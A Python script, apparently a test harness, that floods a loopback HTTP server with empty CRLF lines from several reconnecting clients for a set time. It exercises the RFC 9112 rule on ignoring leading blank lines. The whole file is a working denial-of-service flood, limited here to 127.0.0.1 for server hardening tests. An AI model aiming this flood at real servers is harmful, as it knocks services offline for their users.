#!/usr/bin/env python3
"""Clients that stream empty lines (CR LF) at a server as fast as it takes them, reconnecting
whenever it closes one, for a bounded time: the attack of RFC 9112 §2.2's "ignore at least
one empty line". Loopback only.

    blank-line-stream.py PORT SECONDS [CLIENTS]

Prints "started" once every client is connected, then "sent N bytes" when done."""
import socket
import sys
import threading
import time

port, seconds = int(sys.argv[1]), float(sys.argv[2])
clients = int(sys.argv[3]) if len(sys.argv) > 3 else 8
end = time.monotonic() + seconds
chunk = b"\r\n" * 16384
sent = [0] * clients
connected = threading.Barrier(clients + 1)


def attack(index):
    first = True
    while time.monotonic() < end:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1) as client:
                if first:
                    first = False
                    connected.wait(5)
                while time.monotonic() < end:
                    client.sendall(chunk)
                    sent[index] += len(chunk)
        except (OSError, threading.BrokenBarrierError):
            if first:
                first = False
                connected.abort()


threads = [threading.Thread(target=attack, args=(index,), daemon=True) for index in range(clients)]
for thread in threads:
    thread.start()
try:
    connected.wait(5)
except threading.BrokenBarrierError:
    pass
print("started", flush=True)
for thread in threads:
    thread.join(seconds + 5)
print(f"sent {sum(sent)} bytes", flush=True)
